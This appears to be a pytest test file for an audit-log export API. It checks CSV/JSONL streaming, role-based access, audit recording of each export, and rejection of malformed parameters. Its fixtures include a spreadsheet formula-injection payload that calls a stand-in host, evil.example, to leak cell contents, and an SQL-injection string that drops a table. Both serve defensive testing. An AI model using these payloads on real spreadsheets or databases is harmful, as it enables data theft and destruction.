"""Downloading the audit log: the filtered events as CSV or JSON Lines, streamed, safe to open
in a spreadsheet, for exactly those who may read the log, and itself recorded."""

import csv
import io

import orjson
import pytest

from core.models import AuditEvent
from core.selectors import audit_export
from core.services.audit import audit_record
from core.spreadsheet import FORMULA_STARTS
from labeling.choices import Role
from labeling.services.projects import project_update
from tests.factories import MembershipFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = "/api/v1/audit/export/"
AUDIT_URL = "/api/v1/audit/"


def body(response) -> bytes:
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8"))))


def jsonl(response) -> list[dict]:
    return [orjson.loads(line) for line in body(response).splitlines()]


@pytest.fixture
def staff(api):
    return UserFactory(username="lead", is_staff=True)


@pytest.fixture
def two_projects(db):
    mine, theirs = ProjectFactory(name="Mine"), ProjectFactory(name="Theirs")
    admin = UserFactory(username="ada")
    MembershipFactory(project=mine, user=admin, role=Role.ADMIN)
    project_update(project=mine, data={"retrain_every": 20}, actor=admin)
    project_update(project=mine, data={"retrain_every": 25}, actor=admin)
    project_update(project=theirs, data={"retrain_every": 30})
    return mine, theirs, admin


def test_csv_export_holds_the_filtered_events_newest_first(api, staff, two_projects):
    mine, _, _ = two_projects
    listed = api.as_user(staff).get(AUDIT_URL, {"actor": "ada"}).json()["results"]

    response = api.as_user(staff).get(EXPORT_URL, {"format": "csv", "actor": "ada"})

    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    rows = csv_rows(response)
    assert [int(row["id"]) for row in rows] == [event["id"] for event in listed]
    assert [orjson.loads(row["after"]) for row in rows] == [
        {"retrain_every": 25},
        {"retrain_every": 20},
    ]
    assert {row["scope"] for row in rows} == {f"labeling.project:{mine.pk}"}
    assert rows[0]["actor_name"] == "ada"


def test_jsonl_export_keeps_before_and_after_as_json(api, staff, two_projects):
    response = api.as_user(staff).get(EXPORT_URL, {"format": "jsonl", "action": "project.update"})

    assert response["Content-Type"] == "application/x-ndjson"
    events = jsonl(response)
    assert [event["after"] for event in events] == [
        {"retrain_every": 30},
        {"retrain_every": 25},
        {"retrain_every": 20},
    ]
    assert events[1]["before"] == {"retrain_every": 20}


def test_no_csv_cell_starts_a_formula_whatever_the_log_holds(api, staff):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    audit_record(
        actor=None,
        actor_name=f"{formula}",
        action="appeal.create",
        object_type="moderation.appeal",
        object_id="@SUM(1+1)",
        scope="-2+3",
        after={"note": formula},
    )

    rows = csv_rows(api.as_user(staff).get(EXPORT_URL, {"format": "csv", "action": "appeal."}))

    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert rows[0]["actor_name"] == "'" + formula
    assert rows[0]["object_id"] == "'@SUM(1+1)"
    assert orjson.loads(rows[0]["after"]) == {"note": formula}
    # JSON Lines keeps every value as it was.
    line = jsonl(api.as_user(staff).get(EXPORT_URL, {"format": "jsonl", "action": "appeal."}))
    assert line[0]["actor_name"] == formula


def test_the_export_streams_every_page_once_in_order(api, staff, monkeypatch):
    monkeypatch.setattr(audit_export, "PAGE_SIZE", 3)
    for n in range(8):
        audit_record(actor=None, action="thing.count", object_type="test.thing", object_id=n)

    response = api.as_user(staff).get(EXPORT_URL, {"format": "jsonl", "action": "thing.count"})

    assert [event["object_id"] for event in jsonl(response)] == [str(n) for n in range(7, -1, -1)]


def test_an_empty_export_is_a_csv_header(api, staff):
    rows = body(api.as_user(staff).get(EXPORT_URL, {"format": "csv", "action": "no.such"}))

    assert rows.decode().splitlines() == [",".join(audit_export.COLUMNS)]


def test_the_export_is_recorded_with_its_format_and_filters(api, staff, two_projects):
    body(api.as_user(staff).get(EXPORT_URL, {"format": "jsonl", "actor": "ada"}))

    event = AuditEvent.objects.get(action="audit.export")
    assert (event.actor_name, event.after) == (
        "lead",
        {"format": "jsonl", "filters": {"actor": "ada"}},
    )
    latest = api.as_user(staff).get(AUDIT_URL).json()["results"][0]
    assert latest["action"] == "audit.export"


def test_a_project_admin_exports_only_their_projects_events(api, two_projects):
    mine, _, admin = two_projects

    rows = csv_rows(api.as_user(admin).get(EXPORT_URL, {"format": "csv"}))

    assert {row["scope"] for row in rows} == {f"labeling.project:{mine.pk}"}
    assert len(rows) == 2


@pytest.mark.parametrize("role", [Role.MODERATOR, Role.ANNOTATOR, Role.ML_ENGINEER])
def test_members_who_may_not_read_the_log_may_not_export_it(api, two_projects, role):
    mine, _, _ = two_projects
    reader = UserFactory()
    MembershipFactory(project=mine, user=reader, role=role)

    response = api.as_user(reader).get(EXPORT_URL, {"format": "csv"})

    assert response.status_code == 403
    assert set(response.json()) == {"message", "extra"}
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_an_anonymous_caller_may_not_export(api, two_projects):
    response = api.get(EXPORT_URL, {"format": "csv"})

    assert response.status_code in {401, 403}
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_another_projects_admin_exports_none_of_this_projects_events(api, two_projects):
    _, theirs, _ = two_projects
    other_admin = UserFactory()
    MembershipFactory(project=theirs, user=other_admin, role=Role.ADMIN)

    rows = csv_rows(api.as_user(other_admin).get(EXPORT_URL, {"format": "csv"}))

    assert {row["scope"] for row in rows} == {f"labeling.project:{theirs.pk}"}


HOSTILE = [
    {"format": "xlsx"},
    {"since": "last tuesday"},
    {"since": "9999-12-31T23:59:59-14:00"},
    {"until": "0001-01-01T00:00:00+14:00"},
    {"action": "a" * 10_000},
    {"actor": "ada\x00"},
    {"object_id": "1\x00; DROP TABLE core_auditevent"},
]


@pytest.mark.parametrize("params", HOSTILE, ids=lambda p: next(iter(p)))
def test_hostile_query_parameters_are_a_clear_400_and_record_nothing(api, staff, params):
    client = api.as_user(staff)

    exported = client.get(EXPORT_URL, params)
    listed = client.get(AUDIT_URL, {k: v for k, v in params.items() if k != "format"})

    assert exported.status_code == 400, exported.content
    assert set(exported.json()) == {"message", "extra"}
    if "format" not in params:
        assert listed.status_code == 400, listed.content
    assert not AuditEvent.objects.filter(action="audit.export").exists()


@pytest.mark.parametrize("page", ["abc", "-1", "99999999999999999999", "0"])
def test_a_hostile_page_number_is_a_client_error(api, staff, page):
    response = api.as_user(staff).get(AUDIT_URL, {"page": page, "page_size": "10" * 20})

    assert 400 <= response.status_code < 500
    assert set(response.json()) == {"message", "extra"}
